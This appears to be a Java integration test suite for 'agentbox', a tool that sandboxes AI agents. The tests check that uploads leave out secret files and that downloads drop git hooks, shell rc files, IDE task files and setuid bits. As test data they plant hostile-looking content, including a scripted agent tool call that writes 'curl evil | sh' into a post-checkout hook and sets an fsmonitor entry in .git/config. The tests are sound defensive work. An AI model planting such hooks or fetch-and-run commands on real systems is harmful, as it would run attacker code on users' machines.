package io.agentbox.cli;

import io.agentbox.sandbox.SandboxProvider;
import io.agentbox.sandbox.SandboxQuery;
import io.agentbox.sandbox.Sandboxes;
import io.agentbox.testkit.FakeAnthropic;
import io.agentbox.testkit.Reply;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks on files that cross the boundary. Up: a project's secrets (.env with the model key, keys,
 * credentials) must not land in the sandbox. Down: what the agent leaves must not fill the host disk,
 * carry setuid bits, or plant code that git, a shell, direnv or an editor would run on the host.
 */
class TransferPolicyIT {
    private static final String KEY = "sk-ant-test-0123456789-secret-value";
    private static final List<String> SECRETS = List.of(".env", ".env.local", "server.pem", "tls.key", "id_ed25519", ".netrc", ".npmrc",
            ".pypirc", ".git-credentials", ".ssh/config", ".aws/credentials", ".docker/config.json", "sub/.env");
    private static final List<String> HOSTILE = List.of(".git/hooks/pre-commit", ".git/config", ".envrc", ".bashrc", ".profile", ".zshrc",
            ".vscode/tasks.json", ".idea/workspace.xml", "sub/.git/hooks/post-checkout");

    private static Path home;
    private static AgentboxProcess agentbox;
    private static SandboxProvider provider;

    @BeforeAll
    static void setUp() throws IOException {
        home = Files.createTempDirectory(Path.of("/tmp"), "abx");
        agentbox = new AgentboxProcess(home);
        provider = Sandboxes.local(home);
    }

    @AfterEach
    void killSandboxes() {
        provider.list(SandboxQuery.ALL).forEach(s -> provider.kill(s.id()));
    }

    @AfterAll
    static void tearDown() throws IOException {
        try (Stream<Path> files = Files.walk(home)) {
            files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
    }

    private static String create() {
        AgentboxProcess.Result r = agentbox.run("sandbox", "create", "--timeout", "5m");
        assertThat(r.exitCode()).as(r.toString()).isZero();
        return r.stdout().strip();
    }

    private static AgentboxProcess.Result exec(String id, String script) {
        AgentboxProcess.Result r = agentbox.run("sandbox", "exec", id, "--", "sh", "-c", script);
        assertThat(r.exitCode()).as(r.toString()).isZero();
        return r;
    }

    private static void write(Path root, String rel, String content) throws IOException {
        Path p = root.resolve(rel);
        Files.createDirectories(p.getParent());
        Files.writeString(p, content);
    }

    private static Path project(Path dir) throws IOException {
        Path p = dir.resolve("proj");
        for (String s : SECRETS) write(p, s, "secret of " + s + "\n");
        write(p, "src/main.py", "print('hi')\n");
        write(p, "README.md", "# proj\n");
        return p;
    }

    private static List<String> filesUnder(Path root) throws IOException {
        try (Stream<Path> s = Files.walk(root)) {
            return s.filter(Files::isRegularFile).map(f -> root.relativize(f).toString()).sorted().toList();
        }
    }

    @Test
    void uploadsLeaveSecretFilesOutAndSaySo(@TempDir Path dir) throws IOException {
        Path proj = project(dir);
        String id = create();
        AgentboxProcess.Result cp = agentbox.run("sandbox", "cp", proj.toString(), id + ":/workspace/");
        assertThat(cp.exitCode()).as(cp.toString()).isZero();
        assertThat(exec(id, "cd /workspace/proj && find . -type f | sort").stdout()).isEqualTo("./README.md\n./src/main.py\n");
        assertThat(cp.stderr()).startsWith("agentbox: not uploaded (secret files; --upload-all to include them): ")
                .contains(".env, ").contains(".ssh/").contains(".aws/").contains("server.pem").contains("sub/.env").contains(".docker/config.json");

        AgentboxProcess.Result all = agentbox.run("sandbox", "cp", "--upload-all", proj.toString(), id + ":/workspace/all");
        assertThat(all.exitCode()).as(all.toString()).isZero();
        assertThat(all.stderr()).startsWith("agentbox: --upload-all: uploading secret files too: ");
        List<String> expected = Stream.concat(SECRETS.stream(), Stream.of("README.md", "src/main.py")).map(s -> "./" + s).sorted().toList();
        assertThat(exec(id, "cd /workspace/all && find . -type f | LC_ALL=C sort").stdout().lines().toList())
                .containsExactlyInAnyOrderElementsOf(expected);
    }

    @Test
    void aFileHoldingTheModelKeyIsRefusedByNameAndNothingIsCopied(@TempDir Path dir) throws IOException {
        Path proj = project(dir);
        write(proj, "config/settings.toml", "[model]\nkey = \"" + KEY + "\"\n");
        String id = create();
        AgentboxProcess withKey = agentbox.withEnv(Map.of("ANTHROPIC_API_KEY", KEY));
        for (String flag : List.of("--upload-all", "--json")) {
            List<String> args = flag.equals("--json") ? List.of("sandbox", "cp", proj.toString(), id + ":/workspace/")
                    : List.of("sandbox", "cp", flag, proj.toString(), id + ":/workspace/");
            AgentboxProcess.Result r = withKey.run(args.toArray(String[]::new));
            assertThat(r.exitCode()).as(r.toString()).isEqualTo(2);
            assertThat(r.stderr()).contains("refusing to upload " + proj.resolve("config/settings.toml"))
                    .contains("ANTHROPIC_API_KEY").doesNotContain(KEY);
            assertThat(exec(id, "ls -A /workspace").stdout()).as("nothing was copied").isEmpty();
        }
    }

    @Test
    void runUploadDoesNotCarryTheDotEnvThatHoldsTheKey(@TempDir Path dir) throws IOException {
        try (FakeAnthropic model = FakeAnthropic.start()) {
            Path proj = dir.resolve("app");
            write(proj, ".env", "ANTHROPIC_API_KEY=" + KEY + "\nANTHROPIC_BASE_URL=" + model.baseUrl() + "\n");
            write(proj, "app.py", "print(1)\n");
            model.enqueue(Reply.builder().toolUse("Bash", Map.of("command", "ls -A /workspace; grep -rl " + KEY + " /workspace /home/user /tmp || echo clean"))
                    .usage(100, 10).build(), Reply.builder().text("checked").usage(100, 10).build());
            AgentboxProcess.Result r = agentbox.in(proj).run("run", "--upload", ".", "look around");
            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.stderr()).contains("agentbox: not uploaded (secret files; --upload-all to include them): .env");
            String seen = model.messageRequests().get(1).body().toString();
            // the listing shows no .env, and the key is in no file of the sandbox
            assertThat(seen).contains("\"content\":\"app.py\\nclean\"");
        }
    }

    private static void plantHostileFiles(String id) {
        StringBuilder sh = new StringBuilder("mkdir -p /workspace/repo && cd /workspace/repo");
        for (String h : HOSTILE) sh.append(" && mkdir -p \"$(dirname ").append(h).append(")\" && echo 'touch /tmp/pwned' > ").append(h);
        sh.append(" && echo 'ref: refs/heads/main' > .git/HEAD && mkdir -p src && echo 'print(1)' > src/app.py")
                .append(" && printf '#!/bin/sh\\n' > tool && chmod 4755 tool && printf data > shared && chmod 2644 shared");
        exec(id, sh.toString());
    }

    @Test
    void downloadsLeaveOutFilesThatRunOnTheHostAndNeverSetuid(@TempDir Path dir) throws IOException {
        String id = create();
        plantHostileFiles(id);
        assertThat(exec(id, "stat -c %a /workspace/repo/tool /workspace/repo/shared").stdout()).isEqualTo("4755\n2644\n");
        Path out = dir.resolve("out");
        AgentboxProcess.Result cp = agentbox.run("sandbox", "cp", id + ":/workspace/repo", out.toString());
        assertThat(cp.exitCode()).as(cp.toString()).isZero();
        assertThat(filesUnder(out)).containsExactly(".git/HEAD", "shared", "src/app.py", "tool");
        assertThat(cp.stderr()).startsWith("agentbox: not downloaded (they could run code on this host; --download-all to include them): ")
                .contains(".git/hooks/").contains(".git/config").contains(".envrc").contains(".bashrc").contains(".vscode/")
                .contains(".idea/").contains("sub/.git/hooks/");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve("tool")))).isEqualTo("rwxr-xr-x");
        assertThat(mode(out.resolve("tool"))).isEqualTo(0755);
        assertThat(mode(out.resolve("shared"))).isEqualTo(0644);

        Path all = dir.resolve("all");
        AgentboxProcess.Result everything = agentbox.run("sandbox", "cp", "--download-all", id + ":/workspace/repo", all.toString());
        assertThat(everything.exitCode()).as(everything.toString()).isZero();
        assertThat(everything.stderr()).startsWith("agentbox: --download-all: writing files that can run code on this host too: ");
        assertThat(filesUnder(all)).containsAll(HOSTILE);
        assertThat(mode(all.resolve("tool"))).as("setuid never, even with --download-all").isEqualTo(0755);
    }

    private static int mode(Path p) throws IOException {
        return (Integer) Files.getAttribute(p, "unix:mode") & 07777;
    }

    @Test
    void downloadsStopAtTheByteAndFileLimits(@TempDir Path dir) throws IOException {
        String id = create();
        // sparse: tmpfs quotas count blocks, so this 500 GB file costs the sandbox nothing
        exec(id, "mkdir -p /workspace/big /workspace/many && truncate -s 500G /workspace/big/huge && echo small > /workspace/big/a.txt"
                + " && for i in $(seq 1 40); do echo $i > /workspace/many/f$i; done"
                + " && mkdir /workspace/three && head -c 60000 /dev/zero > /workspace/three/1 && head -c 60000 /dev/zero > /workspace/three/2"
                + " && head -c 60000 /dev/zero > /workspace/three/3");
        AgentboxProcess.Result big = agentbox.run("sandbox", "cp", id + ":/workspace/big", dir.resolve("big").toString());
        assertThat(big.exitCode()).as(big.toString()).isEqualTo(1);
        assertThat(big.stderr()).contains("agentbox: download incomplete: stopped at the limit of 1073741824 bytes, at huge (536870912000 bytes)");
        assertThat(Files.exists(dir.resolve("big/huge"))).isFalse();

        AgentboxProcess.Result bytes = agentbox.run("sandbox", "cp", "--max-download-bytes", "100k", id + ":/workspace/three", dir.resolve("three").toString());
        assertThat(bytes.exitCode()).as(bytes.toString()).isEqualTo(1);
        assertThat(bytes.stderr()).contains("stopped at the limit of 102400 bytes");
        assertThat(filesUnder(dir.resolve("three"))).containsExactly("1");

        AgentboxProcess.Result files = agentbox.run("sandbox", "cp", "--max-download-files", "5", id + ":/workspace/many", dir.resolve("many").toString());
        assertThat(files.exitCode()).as(files.toString()).isEqualTo(1);
        assertThat(files.stderr()).contains("stopped at the limit of 5 files and directories");
        assertThat(filesUnder(dir.resolve("many"))).hasSize(4); // the directory itself is the fifth entry

        AgentboxProcess.Result unlimited = agentbox.run("sandbox", "cp", "--max-download-files", "0", id + ":/workspace/many", dir.resolve("many2").toString());
        assertThat(unlimited.exitCode()).as(unlimited.toString()).isZero();
        assertThat(filesUnder(dir.resolve("many2"))).hasSize(40);
    }

    @Test
    void runDownloadFollowsTheSameRules(@TempDir Path dir) throws IOException {
        try (FakeAnthropic model = FakeAnthropic.start()) {
            model.enqueue(Reply.builder().toolUse("Bash", Map.of("command",
                            "cd /workspace && git init -q . 2>/dev/null || mkdir -p .git/hooks; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout"
                                    + " && printf '[core]\\n\\tfsmonitor = /tmp/x\\n' > .git/config && echo result > out.txt"))
                    .usage(100, 10).build(), Reply.builder().text("done").usage(100, 10).build());
            Path out = dir.resolve("result");
            AgentboxProcess.Result r = agentbox.withEnv(Map.of("ANTHROPIC_API_KEY", "sk-test-key", "ANTHROPIC_BASE_URL", model.baseUrl()))
                    .run("run", "--download", out.toString(), "make a repo");
            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(Files.readString(out.resolve("out.txt"))).isEqualTo("result\n");
            assertThat(out.resolve(".git/hooks")).doesNotExist();
            assertThat(out.resolve(".git/config")).doesNotExist();
            assertThat(r.stderr()).contains("agentbox: not downloaded (they could run code on this host; --download-all to include them): .git/config, .git/hooks/");
        }
    }
}
